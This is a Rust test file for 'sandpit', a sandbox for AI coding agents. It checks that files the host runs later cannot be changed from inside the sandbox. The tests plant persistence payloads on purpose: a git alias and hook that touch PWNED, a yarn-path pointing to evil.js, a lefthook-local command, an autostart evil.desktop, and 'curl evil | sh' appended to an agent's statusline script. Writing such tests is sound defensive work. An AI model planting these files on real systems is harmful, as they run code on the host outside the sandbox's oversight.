// Linux only: the read-only binds, placeholders and mount guard are the Linux kernel
// layer's (macOS holds these files through its Seatbelt profile's block_write).
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The files the host runs later (`sandpit_policy::runlater::REGISTRY`,
//! `docs/run-later.md`), one row each: planted, then written by a dynamic program
//! (the shell, through the interposer) and a static one (raw system calls, the
//! kernel layer alone), bare and under sandpit. Bare, every write lands (the probe
//! works); under sandpit the read-only rows are unchanged and the reported rows
//! changed, `sandpit explain write` says the same for each, and the end of the run
//! names them in one line. The home is made writable with `allow_write = ["~"]` in
//! the user's config, so the home's rows are inside a writable root as they are when
//! the home is the workspace. Beside the rows: a workspace inside a home row is
//! refused before anything runs, a missing row stays missing, and two real tools
//! (git's user config, yarn's `yarn-path`) run the planted file bare and not after a
//! run under sandpit.
mod common;
mod kernel_support;

use std::path::{Path, PathBuf};
use std::process::Output;

use common::{text, TestHome};
use kernel_support::build_probe;
use sandpit_policy::runlater::{Entry, Kind, Treatment, REGISTRY};

const ORIG: &str = "# ORIG\n";
/// A directory on the launcher's PATH in the home (a row of its own).
const PATH_DIR: &str = "tools/bin";
const HOME_WRITABLE: &str = "[files]\nallow_write = [\"~\"]\n";

fn quoted(p: &Path) -> String {
    format!("'{}'", p.display().to_string().replace('\'', "'\\''"))
}

struct Row {
    name: String,
    path: PathBuf,
    kind: Kind,
    treatment: Treatment,
}

fn rows(h: &TestHome) -> Vec<Row> {
    let ctx = sandpit_policy::Context {
        home: h.home(),
        workspace: h.workspace(),
        scratch: "/tmp".into(),
        state_dir: h.home().join(".sandpit"),
    };
    let mut out: Vec<Row> = REGISTRY
        .iter()
        .map(|e: &Entry| Row {
            name: e.path.to_string(),
            path: e.resolve(&ctx),
            kind: e.kind,
            treatment: e.treatment,
        })
        .collect();
    out.push(Row {
        name: format!("PATH: ~/{PATH_DIR}"),
        path: h.home().join(PATH_DIR),
        kind: Kind::Dir,
        treatment: Treatment::ReadOnly,
    });
    out
}

/// The launcher's PATH: the system's and one directory in the home.
fn launcher_path(h: &TestHome) -> String {
    format!(
        "/usr/local/bin:/usr/bin:/bin:{}",
        h.home().join(PATH_DIR).display()
    )
}

/// A test home with every row planted (a file holding `ORIG`, or a directory
/// holding such a file `x`), the static writer in the workspace and the home
/// writable by the user's config.
fn stage() -> (TestHome, Vec<Row>) {
    let h = TestHome::new();
    build_probe(&h, "static_write", true);
    let rows = rows(&h);
    for r in &rows {
        match r.kind {
            Kind::File | Kind::Sealed => h.write(&r.path, ORIG),
            Kind::Dir | Kind::Tree => h.write(&r.path.join("x"), ORIG),
        }
    }
    h.user_config(HOME_WRITABLE);
    (h, rows)
}

/// Each row written by the shell and by the static writer, then the controls.
fn script(rows: &[Row], static_writer: &Path) -> String {
    let w = quoted(static_writer);
    let mut s = String::new();
    for r in rows {
        let p = &r.path;
        match r.kind {
            Kind::File | Kind::Sealed => s.push_str(&format!(
                "echo dyn >> {f} 2>/dev/null; {w} {f} >/dev/null\n",
                f = quoted(p)
            )),
            Kind::Dir | Kind::Tree => s.push_str(&format!(
                "echo dyn >> {x} 2>/dev/null; echo dyn > {d} 2>/dev/null; {w} {s} >/dev/null\n",
                x = quoted(&p.join("x")),
                d = quoted(&p.join("dyn")),
                s = quoted(&p.join("static")),
            )),
        }
    }
    s.push_str("echo ok > \"$HOME/control-home\" && ");
    s.push_str(&format!(
        "{w} \"$HOME/control-static\" && echo CONTROL-DONE\n"
    ));
    s
}

/// What a row's writes left: `None` when nothing changed.
fn changed(r: &Row) -> Option<String> {
    match r.kind {
        Kind::File | Kind::Sealed => {
            let now = std::fs::read_to_string(&r.path).unwrap_or_default();
            (now != ORIG).then(|| format!("now {now:?}"))
        }
        Kind::Dir | Kind::Tree => {
            let x = std::fs::read_to_string(r.path.join("x")).unwrap_or_default();
            let made: Vec<&str> = ["dyn", "static"]
                .into_iter()
                .filter(|n| r.path.join(n).exists())
                .collect();
            (x != ORIG || !made.is_empty()).then(|| format!("x {x:?}, made {made:?}"))
        }
    }
}

fn run(h: &TestHome, sandboxed: bool, script: &str) -> Output {
    let mut c = if sandboxed {
        let mut c = h.sandpit();
        c.args(["run", "--", "sh", "-c", script]);
        c
    } else {
        let mut c = h.command("sh");
        c.args(["-c", script]);
        c
    };
    c.env("PATH", launcher_path(h)).output().unwrap()
}

#[test]
fn every_row_bare_changes_and_under_sandpit_holds() {
    // Bare: every write of every row lands (the probes work).
    let (h, rows) = stage();
    let out = run(
        &h,
        false,
        &script(&rows, &h.workspace().join("static_write")),
    );
    assert!(text(&out).contains("CONTROL-DONE"), "bare: {}", text(&out));
    let unchanged: Vec<&str> = rows
        .iter()
        .filter(|r| changed(r).is_none())
        .map(|r| r.name.as_str())
        .collect();
    assert!(
        unchanged.is_empty(),
        "bare writes did not land: {unchanged:?}"
    );

    // Under sandpit, with the home writable. The kernel layer reports what it
    // refuses (SANDPIT_KERNEL_REPORTS=1; by default it does where no interposer
    // speaks for the program, and here the agent is the dynamic `sh`), so the static
    // writer's refusals are named at the end too.
    let (h, rows) = stage();
    let mut c = h.sandpit();
    c.args(["run", "--", "sh", "-c"])
        .arg(script(&rows, &h.workspace().join("static_write")))
        .env("PATH", launcher_path(&h))
        .env("SANDPIT_KERNEL_REPORTS", "1");
    let out = c.output().unwrap();
    let all = text(&out);
    assert!(all.contains("CONTROL-DONE"), "positive control: {all}");
    assert!(
        h.home().join("control-home").exists() && h.home().join("control-static").exists(),
        "the home is writable in this run: {all}"
    );
    let mut failures = vec![];
    for r in &rows {
        match (r.treatment, changed(r)) {
            (Treatment::ReadOnly, Some(how)) => {
                failures.push(format!("{}: changed: {how}", r.name))
            }
            (Treatment::Reported, None) => {
                failures.push(format!("{}: reported row not writable", r.name))
            }
            _ => {}
        }
    }
    assert!(failures.is_empty(), "{failures:#?}\n{all}");

    // The end of the run: one line naming each of them.
    let lines: Vec<&str> = all
        .lines()
        .filter(|l| l.starts_with("sandpit: run-later files this run tried"))
        .collect();
    assert_eq!(lines.len(), 1, "{all}");
    let line = lines[0];
    let home = h.home();
    let mut missing = vec![];
    for r in &rows {
        let shown = match r.path.strip_prefix(&home) {
            Ok(rest) => format!("~/{}", rest.display()),
            Err(_) => r.path.display().to_string(),
        };
        let verb = match r.treatment {
            Treatment::ReadOnly => "(refused",
            Treatment::Reported => "(changed",
        };
        let file = match r.kind {
            Kind::File | Kind::Sealed => shown,
            Kind::Dir | Kind::Tree => format!("{shown}/static"),
        };
        if !line.contains(&format!("{file} {verb}")) {
            missing.push(file);
        }
    }
    assert!(missing.is_empty(), "not named: {missing:?}\n{line}");

    // `sandpit explain write` agrees with each row.
    let mut disagree = vec![];
    for r in &rows {
        let target = match r.kind {
            Kind::File | Kind::Sealed => r.path.clone(),
            Kind::Dir | Kind::Tree => r.path.join("new"),
        };
        let out = h
            .sandpit()
            .env("PATH", launcher_path(&h))
            .args(["explain", "write"])
            .arg(&target)
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&out.stdout).to_string();
        let want = match r.treatment {
            Treatment::ReadOnly => "DENY",
            Treatment::Reported => "ALLOW",
        };
        if !said.starts_with(want) {
            disagree.push(format!("{}: {said}", r.name));
        }
    }
    assert!(disagree.is_empty(), "{disagree:#?}");
}

/// A missing row stays missing: a file created by the shell is refused; one created
/// by a static program is moved aside and the run stopped; a directory row gets a
/// sealed placeholder nothing can be written into, gone after the run.
#[test]
fn missing_rows_stay_missing() {
    let h = TestHome::new();
    build_probe(&h, "static_write", true);
    h.user_config(HOME_WRITABLE);
    let gitconfig = h.home().join(".gitconfig");
    let autostart = h.home().join(".config/autostart");
    std::fs::create_dir_all(h.home().join(".config")).unwrap();
    h.give_to_test_user(&h.home().join(".config"));
    let s = format!(
        "echo x > {g} 2>/dev/null; mkdir -p {a} 2>/dev/null; ./static_write {a}/evil.desktop; \
         echo ok > \"$HOME/control\" && echo CONTROL-DONE; ./static_write {g}; sleep 5; echo NOT-STOPPED",
        g = quoted(&gitconfig),
        a = quoted(&autostart),
    );
    // Bare: both land.
    let bare = run(&h, false, &s);
    assert!(
        gitconfig.exists() && autostart.join("evil.desktop").exists(),
        "bare: {}",
        text(&bare)
    );
    std::fs::remove_file(&gitconfig).unwrap();
    std::fs::remove_dir_all(&autostart).unwrap();
    std::fs::remove_file(h.home().join("control")).unwrap();

    let out = run(&h, true, &s);
    let all = text(&out);
    assert!(all.contains("CONTROL-DONE"), "positive control: {all}");
    assert!(
        !all.contains("NOT-STOPPED"),
        "the run goes on after ~/.gitconfig appeared: {all}"
    );
    assert!(!gitconfig.exists(), "~/.gitconfig left in place: {all}");
    assert!(!autostart.join("evil.desktop").exists(), "{all}");
    assert!(
        !autostart.exists(),
        "the placeholder outlived the run: {all}"
    );
    assert!(all.contains("~/.gitconfig (refused; git:"), "{all}");
    assert!(
        all.contains("~/.config/autostart (refused; XDG autostart:"),
        "{all}"
    );
    assert!(
        all.contains("appeared during the run") && all.contains(".gitconfig.sandpit-quarantine-"),
        "{all}"
    );
}

/// A workspace inside a home row (a directory on PATH, the autostart directory) is
/// refused before anything runs, saying why and what to do.
#[test]
fn a_workspace_inside_a_home_row_is_refused() {
    let h = TestHome::new();
    for d in [
        h.home().join(PATH_DIR),
        h.home().join(".config/autostart/x"),
    ] {
        h.write(&d.join("keep"), "");
        let out = h
            .sandpit()
            .env("PATH", launcher_path(&h))
            .current_dir(&d)
            .args(["run", "--", "sh", "-c", "echo RAN > ran"])
            .output()
            .unwrap();
        let all = text(&out);
        assert!(!out.status.success(), "{all}");
        assert!(!all.contains("RAN") && !d.join("ran").exists(), "{all}");
        assert!(
            all.contains("keeps read-only") && all.contains("Run sandpit from a project directory"),
            "{all}"
        );
    }
}

/// git's user config: an alias planted in `~/.gitconfig` runs bare on the user's
/// next `git st`; under sandpit (the home writable) the plant is refused and the
/// same `git st` runs nothing.
#[test]
fn git_user_config_alias_bare_and_under_sandpit() {
    let plant = "git config --global alias.st '!touch \"$HOME/PWNED\"'";
    for sandboxed in [false, true] {
        let h = TestHome::new();
        h.user_config(HOME_WRITABLE);
        h.write(&h.home().join(".gitconfig"), "[user]\n\tname = u\n");
        let out = run(&h, sandboxed, plant);
        let later = h.command("git").arg("st").output().unwrap();
        let pwned = h.home().join("PWNED").exists();
        assert_eq!(
            pwned,
            !sandboxed,
            "sandboxed {sandboxed}: {}\n{}",
            text(&out),
            text(&later)
        );
        if sandboxed {
            let cfg = std::fs::read_to_string(h.home().join(".gitconfig")).unwrap();
            assert_eq!(cfg, "[user]\n\tname = u\n");
            assert!(
                text(&out).contains("~/.gitconfig (refused; git:"),
                "{}",
                text(&out)
            );
        }
    }
}

/// yarn's `yarn-path` (`.yarnrc`, yarn 1, from npm in `.ci/install`): planted in the
/// project it makes the user's next `yarn --version` run the sandbox's script; under
/// sandpit the shell's plant is refused, and a static program's is moved aside and
/// the run stopped.
#[test]
fn yarn_path_bare_and_under_sandpit() {
    let plant = "echo 'require(\"fs\").writeFileSync(\"PWNED\", \"x\")' > evil.js; \
                 echo 'yarn-path \"./evil.js\"' > .yarnrc; echo PLANTED";
    for sandboxed in [false, true] {
        let h = TestHome::new();
        build_probe(&h, "static_write", true);
        let script = if sandboxed {
            format!("{plant}; ./static_write .yarnrc; sleep 5; echo NOT-STOPPED")
        } else {
            plant.to_string()
        };
        let out = run(&h, sandboxed, &script);
        assert!(text(&out).contains("PLANTED"), "{}", text(&out));
        let later = h.command("yarn").arg("--version").output().unwrap();
        let pwned = h.workspace().join("PWNED").exists();
        assert_eq!(
            pwned,
            !sandboxed,
            "sandboxed {sandboxed}: {}\n{}",
            text(&out),
            text(&later)
        );
        if sandboxed {
            assert!(!text(&out).contains("NOT-STOPPED"), "{}", text(&out));
            assert!(!h.workspace().join(".yarnrc").exists(), "{}", text(&out));
            assert!(
                text(&out).contains(".yarnrc (refused; yarn (classic):"),
                "{}",
                text(&out)
            );
        }
    }
}

/// lefthook's local override (`lefthook-local.yml`, lefthook from npm in
/// `.ci/install`): in a repository whose hooks lefthook installed, a command the
/// sandbox adds there runs on the user's next commit bare; under sandpit the
/// shell's plant is refused and a static program's moved aside (the run stopped),
/// and the next commit runs only the project's own command.
#[test]
fn lefthook_local_bare_and_under_sandpit() {
    let plant = "printf 'pre-commit:\\n  commands:\\n    evil:\\n      run: touch PWNED\\n' > lefthook-local.yml; echo PLANTED";
    for sandboxed in [false, true] {
        let h = TestHome::new();
        build_probe(&h, "static_write", true);
        let ws = h.workspace();
        h.write(
            &ws.join("lefthook.yml"),
            "pre-commit:\n  commands:\n    lint:\n      run: touch LINTED\n",
        );
        let sh = |script: &str| {
            let o = h.command("sh").args(["-c", script]).output().unwrap();
            assert!(o.status.success(), "{script}: {}", text(&o));
        };
        sh(
            "git init -q && git config user.email u@example.test && git config user.name u \
            && lefthook install",
        );
        let script = if sandboxed {
            format!("{plant}; ./static_write lefthook-local.yml; sleep 5; echo NOT-STOPPED")
        } else {
            plant.to_string()
        };
        let out = run(&h, sandboxed, &script);
        assert!(text(&out).contains("PLANTED"), "{}", text(&out));
        // The user's next commit, outside the sandbox.
        sh("echo x > f && git add f && git commit -qm m");
        assert!(ws.join("LINTED").exists(), "the project's own hook runs");
        assert_eq!(
            ws.join("PWNED").exists(),
            !sandboxed,
            "sandboxed {sandboxed}: {}",
            text(&out)
        );
        if sandboxed {
            assert!(!text(&out).contains("NOT-STOPPED"), "{}", text(&out));
            assert!(!ws.join("lefthook-local.yml").exists(), "{}", text(&out));
            assert!(
                text(&out).contains("lefthook-local.yml (refused; lefthook:"),
                "{}",
                text(&out)
            );
        }
    }
}

/// A global `core.hooksPath` in the home (`~/.gitconfig`): with the home writable, a
/// hook planted there runs on the user's next commit in any repository bare; under
/// sandpit it is refused, by the shell and a static program, and `explain` names the
/// key.
#[test]
fn global_hooks_path_in_the_home() {
    for sandboxed in [false, true] {
        let h = TestHome::new();
        build_probe(&h, "static_write", true);
        h.user_config(HOME_WRITABLE);
        let hooks = h.home().join(".githooks");
        h.write(&hooks.join("README"), "");
        h.write(
            &h.home().join(".gitconfig"),
            &format!("[core]\n\thooksPath = {}\n", hooks.display()),
        );
        let sh = |script: &str| {
            let o = h.command("sh").args(["-c", script]).output().unwrap();
            assert!(o.status.success(), "{script}: {}", text(&o));
        };
        sh("git init -q && git config user.email u@example.test && git config user.name u");
        let hook = hooks.join("pre-commit");
        let script = format!(
            "printf '#!/bin/sh\\ntouch \"$HOME/PWNED\"\\n' > {p}; chmod +x {p}; {s} {p}.static; echo PLANTED",
            p = quoted(&hook),
            s = quoted(&h.workspace().join("static_write")),
        );
        let out = run(&h, sandboxed, &script);
        assert!(text(&out).contains("PLANTED"), "{}", text(&out));
        sh("echo x > f && git add f && git commit -qm m");
        assert_eq!(
            h.home().join("PWNED").exists(),
            !sandboxed,
            "sandboxed {sandboxed}: {}",
            text(&out)
        );
        if sandboxed {
            assert!(!hook.exists() && !hooks.join("pre-commit.static").exists());
            let said = h
                .sandpit()
                .args(["explain", "write"])
                .arg(&hook)
                .output()
                .unwrap();
            let said = String::from_utf8_lossy(&said.stdout).to_string();
            assert!(
                said.starts_with("DENY") && said.contains("core.hookspath"),
                "{said}"
            );
        }
    }
}

/// What an agent's own configuration names for the host to run later lies in the
/// directory its profile makes writable: Claude Code's status line script, codex's
/// `notify` program. The configuration is read-only; under sandpit the scripts it
/// names are too, for a dynamic and a static writer, while the rest of the agent's
/// directory stays writable (the control). Bare, the plant lands.
#[test]
fn scripts_an_agents_config_names_stay_read_only() {
    let static_writer = {
        let h = TestHome::new();
        let p = build_probe(&h, "static_write", true);
        let keep =
            std::env::temp_dir().join(format!("sandpit-static-write-{}", std::process::id()));
        std::fs::copy(&p, &keep).unwrap();
        keep
    };
    for (profile, config, config_text, script) in [
        (
            "claude",
            ".claude/settings.json",
            "{\"statusLine\": {\"type\": \"command\", \"command\": \"bash ~/.claude/statusline.sh\"}}\n",
            ".claude/statusline.sh",
        ),
        (
            "codex",
            ".codex/config.toml",
            "notify = [\"python3\", \"$HOME/.codex/notify.py\"]\n",
            ".codex/notify.py",
        ),
    ] {
        for sandboxed in [false, true] {
            let h = TestHome::new();
            h.write(&h.home().join(config), config_text);
            h.write(&h.home().join(script), ORIG);
            let target = h.home().join(script);
            let other = h.home().join(script).with_file_name("state.txt");
            let stat = h.workspace().join("static_write");
            std::fs::copy(&static_writer, &stat).unwrap();
            h.give_to_test_user(&stat);
            let sh = format!(
                "echo 'curl evil | sh' >> {t}; ./static_write {t}; echo ok > {o}",
                t = quoted(&target),
                o = quoted(&other)
            );
            let out = if sandboxed {
                h.sandpit()
                    .args(["run", "--profile", profile, "--", "sh", "-c", &sh])
                    .output()
                    .unwrap()
            } else {
                h.command("sh").args(["-c", &sh]).output().unwrap()
            };
            let now = std::fs::read_to_string(&target).unwrap();
            assert_eq!(now == ORIG, sandboxed, "{profile}: {now:?}\n{}", text(&out));
            assert!(
                std::fs::read_to_string(&other).is_ok_and(|s| s == "ok\n"),
                "{profile}, sandboxed {sandboxed}: the agent's directory is not writable: {}",
                text(&out)
            );
            if sandboxed {
                let o = h
                    .sandpit()
                    .args(["explain", "--profile", profile, "write"])
                    .arg(&target)
                    .output()
                    .unwrap();
                let said = common::explained(&o);
                assert!(
                    said.starts_with("DENY") && said.contains(&format!("agent config (~/{config})")),
                    "{said}"
                );
            }
        }
    }
    let _ = std::fs::remove_file(static_writer);
}
